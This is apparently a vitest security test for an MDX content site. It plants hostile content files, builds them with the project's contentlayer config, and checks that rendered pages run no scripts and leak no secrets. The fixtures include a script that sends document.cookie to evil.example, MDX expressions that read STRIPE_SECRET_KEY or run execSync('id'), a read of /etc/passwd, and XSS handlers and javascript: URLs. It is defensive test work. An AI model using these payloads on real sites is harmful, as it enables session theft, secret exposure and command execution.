import { execFileSync } from 'node:child_process';
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ContentBody } from '@/components/ui/content-body';
import { checkContent } from '@/tools/content-check';

/**
 * Defence in depth: files an attacker with write access to content/ would plant, built by the real
 * contentlayer config (as if someone ran it by hand and skipped the check), then rendered by the
 * component the pages use. Nothing runs, nothing leaks, no script reaches the page.
 */
const CANARY = 'sk_test_CANARY_must_never_appear_51Hx';
const root = path.resolve('.');
const fixtures = path.join(root, 'tests/fixtures/content');

const planted: Record<string, string> = {
  secret: 'Giá: {process.env.STRIPE_SECRET_KEY} đồng.',
  command: "Xem {globalThis.process.getBuiltinModule('child_process').execSync('id').toString()}",
  script: '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n\nChữ sau.',
  scriptInline: 'Chữ <script>alert(1)</script> giữa dòng.',
  innerHtml: "<div dangerouslySetInnerHTML={{__html: '<img src=x onerror=alert(1)>'}} />",
  meta: '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />\n<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  attribute: '<p title={process.env.STRIPE_SECRET_KEY}>Giỏ</p>',
  handlers:
    '<img src="/images/a.webp" alt="a" onerror="alert(1)">\n\n<a href="/vi" onclick="alert(1)">x</a>',
  urls: '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:msgbox) <a href="&#106;avascript:alert(1)">d</a> ![e](data:image/svg+xml;base64,PHN2Zy8+)',
  frames:
    '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><base href="https://evil.example/"><form action="https://evil.example"><input name="p"></form><link rel="stylesheet" href="https://evil.example/x.css"><style>*{display:none}</style>',
  svg: '<svg onload="alert(1)"><script>alert(2)</script></svg><math><mtext><img src=x onerror=alert(3)></mtext></math>',
  esm: "import fs from 'node:fs'\nexport const x = fs.readFileSync('/etc/passwd', 'utf8')\n\nChữ.",
};

let work: string;
let rendered: Record<string, string>;

beforeAll(() => {
  work = mkdtempSync(path.join(tmpdir(), 'planted-'));
  const content = path.join(work, 'content');
  cpSync(path.join(fixtures, 'valid'), content, { recursive: true });
  const product = path.join(content, 'products/lang-a/gio-a.mdx');
  const source = readFileSync(product, 'utf8');
  const frontmatter = source.slice(0, source.indexOf('\n---\n', 4) + 5);
  const village = readFileSync(path.join(content, 'villages/lang-a.mdx'), 'utf8');
  const villageFront = village.slice(0, village.indexOf('\n---\n', 4) + 5);
  // Every planted body goes into a village file (the body each type shares); one product too.
  writeFileSync(product, `${frontmatter}${Object.values(planted).join('\n\n')}\n`);
  for (const [name, body] of Object.entries(planted)) {
    const slug = `lang-${name.toLowerCase()}`;
    writeFileSync(path.join(content, `villages/${slug}.mdx`), `${villageFront}${body}\n`);
  }
  // The project's own contentlayer config and pipeline, in a scratch folder of its own.
  cpSync(path.join(root, 'contentlayer.config.ts'), path.join(work, 'contentlayer.config.ts'));
  // Copies, not links: contentlayer finds its working folder from package.json's real path.
  for (const file of ['package.json', 'tsconfig.json'])
    cpSync(path.join(root, file), path.join(work, file));
  for (const link of ['lib', 'tools', 'node_modules'])
    symlinkSync(path.join(root, link), path.join(work, link));
  mkdirSync(path.join(work, '.contentlayer'), { recursive: true });
  execFileSync(path.join(root, 'node_modules/.bin/contentlayer2'), ['build'], {
    cwd: work,
    // contentlayer takes its working folder from PWD before process.cwd().
    env: { ...process.env, PWD: work, CONTENT_DIR: content, STRIPE_SECRET_KEY: CANARY },
    stdio: 'pipe',
    timeout: 120_000,
  });
  const generated = path.join(work, '.contentlayer/generated');
  rendered = {};
  for (const type of ['Village', 'Product']) {
    for (const file of readdirSync(path.join(generated, type))) {
      if (!file.endsWith('.mdx.json')) continue;
      const doc = JSON.parse(readFileSync(path.join(generated, type, file), 'utf8')) as {
        body: { html: string };
      };
      rendered[`${type}/${file}`] = renderToStaticMarkup(
        createElement(ContentBody, { html: doc.body.html }),
      );
    }
  }
}, 150_000);

afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('a planted content file that skipped the check', () => {
  it('is refused by the check, so it could only reach a build by hand', () => {
    const errors = checkContent(path.join(work, 'content'), path.join(fixtures, 'valid-public'));
    expect(errors.filter((p) => p.severity === 'error').length).toBeGreaterThan(10);
  });

  it('is built, and every body shows up on the page as text', () => {
    expect(Object.keys(rendered).length).toBeGreaterThanOrEqual(Object.keys(planted).length + 1);
    const secretPage = rendered['Village/villages__lang-secret.mdx.json'];
    // The expression is shown as the words that were typed, not evaluated.
    expect(secretPage).toContain('{process.env.STRIPE_SECRET_KEY}');
  });

  it('puts no script, handler, frame, meta refresh or script URL into any page', () => {
    for (const [doc, html] of Object.entries(rendered)) {
      const lower = html.toLowerCase();
      expect(lower, doc).not.toMatch(
        /<(script|style|iframe|object|embed|meta|link|base|form|input|svg|math)\b/,
      );
      expect(lower, doc).not.toMatch(/\son[a-z]+\s*=/);
      expect(lower, doc).not.toMatch(/(href|src)\s*=\s*"\s*(javascript|vbscript|data):/);
      expect(lower, doc).not.toMatch(/\sstyle\s*=/);
      expect(lower, doc).not.toContain('dangerouslysetinnerhtml');
    }
  });

  it('never reads a secret or runs a command', () => {
    const id = execFileSync('id').toString().trim();
    for (const [doc, html] of Object.entries(rendered)) {
      expect(html, doc).not.toContain(CANARY);
      expect(html, doc).not.toContain(id);
      expect(html, doc).not.toContain('root:x:0:0');
    }
  });
});
